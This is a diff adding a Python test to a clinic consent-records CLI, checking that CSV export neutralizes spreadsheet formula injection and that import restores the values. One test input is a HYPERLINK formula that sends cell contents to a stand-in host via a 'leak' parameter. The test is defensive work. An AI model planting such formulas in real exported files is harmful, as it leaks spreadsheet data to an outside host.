@@ -314,6 +314,28 @@ opt_in,d@clinic.example,,marketing,,,admin,,,
     assert len(listed) == 9 and listed[0]["effective_at"] == "2025-01-01T00:00:00Z"
 
 
+def test_export_neutralizes_formulas_and_import_restores_them(config: Path, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://x.example/?leak="&A2,"open")'
+    grant = consent(
+        config, "grant", "a@clinic.example", "--purpose", "marketing",
+        "--source", "ehr", "--document-ref", formula,
+    )  # fmt: skip
+    assert grant.exit_code == 0, grant.output
+    for who, reference in zip("bcd", ("@SUM(1+1)", "-2+3", "'=already quoted"), strict=True):
+        opted = consent(config, "opt-out", f"{who}@clinic.example", "--reference", reference)
+        assert opted.exit_code == 0, opted.output
+    exported = tmp_path / "export.csv"
+    assert consent(config, "export", "--output", str(exported)).exit_code == 0
+    cells = [cell for row in csv.reader(io.StringIO(exported.read_text())) for cell in row]
+    assert f"'{formula}" in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert "''=already quoted" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    other = _config(tmp_path / "two")
+    assert consent(other, "import", str(exported)).exit_code == 0
+    refs = [r["document_ref"] for r in json.loads(consent(other, "export", "--json").stdout)]
+    assert refs == [formula, "@SUM(1+1)", "-2+3", "'=already quoted"]
+
+
 def test_the_command_is_part_of_phigate() -> None:
     result = subprocess.run(
         [*PHIGATE, "consent", "import", "--help"], capture_output=True, text=True, timeout=60
